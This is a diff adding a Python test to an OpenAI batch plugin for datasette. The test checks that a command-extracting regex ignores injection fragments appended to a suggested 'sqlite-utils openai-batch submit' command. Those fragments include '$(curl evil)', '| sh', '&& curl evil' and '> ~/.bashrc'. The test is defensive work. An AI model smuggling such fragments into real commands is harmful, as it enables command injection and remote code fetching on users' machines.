@@ -538,3 +538,15 @@ def test_a_server_that_names_its_batches_so(
     run("run", notes, "notes", *ASK, "-y", "--no-wait", "--base-url", evil.base_url)
     assert rows(notes, "SELECT batch_id FROM openai_batch_parts") == [(None,)]
     assert all(name not in asked.path for asked in evil.asked)
+
+
+def test_a_message_names_no_other_command_to_copy() -> None:
+    """Pages of a job set its commands apart, to be copied: the message may be a stranger's."""
+    from datasette_openai_batch.pages.job import _COMMAND
+
+    ours = "sqlite-utils openai-batch submit 'a b.db' 3 --max-cost 2.50"
+    assert _COMMAND.findall(f"Out of credit. Go on with {ours}, or wait.") == [ours]
+    for more in ("$(curl evil)", "`curl evil`", "; curl evil", "| sh", "&& curl evil",
+                 "\ncurl evil", "> ~/.bashrc", "\\\ncurl evil"):  # fmt: skip
+        found = _COMMAND.findall(f"Go on with sqlite-utils openai-batch submit x {more}")
+        assert found == ["sqlite-utils openai-batch submit x"], more
